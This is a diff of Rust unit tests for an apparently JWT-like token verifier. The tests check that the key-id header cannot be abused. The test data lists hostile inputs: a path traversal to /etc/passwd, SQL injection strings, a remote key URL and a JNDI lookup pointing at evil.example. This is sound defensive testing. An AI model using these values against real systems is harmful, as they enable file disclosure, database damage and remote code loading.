@@ -364,3 +364,37 @@ fn no_error_quotes_the_token() {
     let Some(cause) = fault(&token) else { unreachable!("a time that is text is refused") };
     assert!(!format!("{cause} {cause:?}").contains("s3cret"));
 }
+
+#[test]
+fn an_opaque_token_is_named_as_such() {
+    for token in ["mmt_0aZ", "mmt_a.b.c"] {
+        assert_eq!(fault(token), Some(TokenError::Opaque));
+        assert_eq!(danger_decode_without_verifying(token).err(), Some(TokenError::Opaque));
+    }
+    assert_eq!(fault("mmt"), Some(TokenError::NotCompact));
+}
+
+/// Hazard 24. A key id is a key into a map and nothing else.
+#[test]
+fn a_key_id_that_is_meant_for_something_else_names_no_key() {
+    for kid in [
+        "../../../../etc/passwd",
+        "/dev/null",
+        "' OR '1'='1",
+        "1; DROP TABLE keys; --",
+        "https://evil.example/jwks",
+        "EdDSA\0",
+        "EdDSA ",
+        " EdDSA",
+        "eddsa",
+        "*",
+        "%45dDSA",
+        "${jndi:ldap://evil.example/a}",
+        "\u{202e}EdDSA",
+    ] {
+        assert_eq!(fault(&Token::good().header("kid", kid).signed()), Some(TokenError::UnknownKey), "{kid:?}");
+    }
+    for number in 0..10_000 {
+        assert_eq!(fault(&Token::good().header("kid", format!("EdDSA-{number}")).signed()), Some(TokenError::UnknownKey));
+    }
+}
